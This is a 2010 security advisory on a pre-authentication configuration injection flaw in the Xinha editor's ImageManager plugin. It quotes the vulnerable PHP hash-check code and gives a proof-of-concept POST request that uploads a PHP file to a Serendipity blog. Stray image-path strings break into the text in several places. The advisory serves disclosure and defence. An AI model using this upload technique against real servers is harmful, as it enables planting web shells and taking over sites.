MOPS-2010-020: Xinha WYSIWYG Plugin Configuration Injection Vulnerability

May 10th, 2010

A preauth plugin configuration injection vulnerability was discovered in the WYSIWYG editor Xinha that allows e.g. uploading arbitrary PHP files to the webserver.

Affected versions

Affected is Xinha <= 0.96 Beta 2




The vulnerability was discovered by Stefan Esser.

About Xinha

Xinha (pronounced like Xena, the Warrior Princess) is a powerful WYSIWYG HTML editor component that works in all current browsers. Its configurabilty and extensibility make it easy to build just the right editor for multiple purposes, from a restricted mini-editor for one database field to a full-fledged website editor. Its liberal, BSD licence makes it an idealcandidate for integration into any kind of project.

Detailed information

During an audit of the Xinha WYSIWYG editor it was discovered that it contains a major security hole that allows injecting arbitrary configuration into the editor’s plugins. These plugins can usually be used from everyone without being logged into the application Xinha uses. By injecting an attacker defined configuration into the ImageManager plugin it is possible to upload arbitrary files to any directory on the webserver that is writable. Often sich allows uploading malicious PHP files (e.g. c99) into the document root directory. An example for a vulnerable application is the Serendipity Weblog.

The vulnerability is caused by a logical error in the dynamic configuration feature of the Xinha editor. The editor allows PHP scripts to pass a new configuration to the plugins through the request variables. The configuration is secured by a salted SHA1 hash with the secret salt being stored in the user session. However due to a logical error in the verification an attacker can force the verification to use a secret salt known to him. This allows to inject arbitrary configurations.

To understand the vulnerability it is necessary to take a look into the file of the ImageManager plufin.

require_once(realpath(dirname(__FILE__) . '/../../contrib/php-xinha.php'));
if($passed_data = xinha_read_passed_data())
  $IMConfig = array_merge($IMConfig, $passed_data);
  $IMConfig['backend_url'] .= xinha_passed_data_querystring() . '&';
// Deprecated config passing, don't use this way any more!
  if(get_magic_quotes_gpc()) {
    $_REQUEST['backend_config'] = stripslashes($_REQUEST['backend_config']);
  // Config specified from front end, check that it's valid
  $secret = $_SESSION[$_REQUEST['backend_config_secret_key_location']];

  if($_REQUEST['backend_config_hash'] !== sha1($_REQUEST['backend_config'] . $secret))die("Backend security error.");

  $to_merge = unserialize($_REQUEST['backend_config']);
    die("Backend config syntax error.");

  $IMConfig = array_merge($IMConfig, $to_merge);

We will look into the xinha_passed_data_querystring() function in a minute, but first let us explore the fallback that is marked as “Deprecated config passing, don’t use this way any more!”. The purpose of this code is to verify a configuration submitted through the backend_config request variable. The verification is done against the SHA1 hash of concat(backend_config, secret), with secret being read from the users session. The problem here is that the attacker can control which session variable is used for the secret with thebackend_config_secret_key_location request parameter. This meansan attacke can either choose a non existing session variable name which results in an empty secret, or the name of a session variable he knows the content of. The later strongly depends on the application, but in the case of the Serendipity Weblog there is e.g. a session variable that stores the origianl HTTP referer from the first click. This value is known to the attacker, therefor creating a valid “signature” is straigth forward.

Now let us look into the non deprecated way to submit a dynamic configuration inside the xinha_read_passed_data().

function xinha_read_passed_data()
 if(isset($_REQUEST['backend_data']) && is_array($_REQUEST['backend_data']))
   $bk = $_REQUEST['backend_data'];
   if(!isset($_SESSION[$bk['key_location']])) return NULL;
   if($bk['hash']         ===function_exists('sha1') ?
        sha1($_SESSION[$bk['key_location']] . $bk['data'])
      : md5($_SESSION[$bk['key_location']] . $bk['data']))
     return unserialize(ini_get('magic_quotes_gpc') ? stripslashes($bk['data']) : $bk['data']);
 return NULL;

This code suffers from the same vulnerability. An attacker can control the name of session, which is usually PHPSESSID. He can control the session variable used through thebackend_data[key_location] variable and he controls the data and the hash. The only difference here is that the choosen session variable must exist, but this is not a problem in most applications, as explained above.

Proof of concept, exploit or instructions to reproduce

The following proof of concept POST request demonstrate how this vulnerability can be exploited in the real world. The demonstration exploit is designed wo work against Serendipity which uses Xinha. It will upload a harmless phpinfo() test script to the /uploads/ directory of Serendipity. It shows how easy it is for an attacker to upload arbitrary files to the webserver.

POST /serendipity/htmlarea/plugins/ImageManager/backend.php HTTP/1.0
Content-Type: multipart/form-data; boundary=---890776159
Content-Length: 854

Content-Disposition: form-data; name="__plugin"

Content-Disposition: form-data; name="__function"

Content-Disposition: form-data; name="dir"Content-Disposition: form-data; name="backend_config"

Content-Disposition: form-data; name="backend_config_hash"

Content-Disposition: form-data; name="backend_config_secret_key_location"

Content-Disposition: form-data; name="upload"; filename="xxx.php";
Content-Type: xxx

<?php phpinfo();?>



WARNING: Even if the webserver does not have writabledirectories this vulnerability is critical because by overwriting the plugin configuration it is possible to alsotrigger other problems like remoteURL inclusions.

It is strongly recommended to limit access to theXinha subdirectories to trusted IPs until an official fix is released by theXinha developers.

blog comments powered by Disqus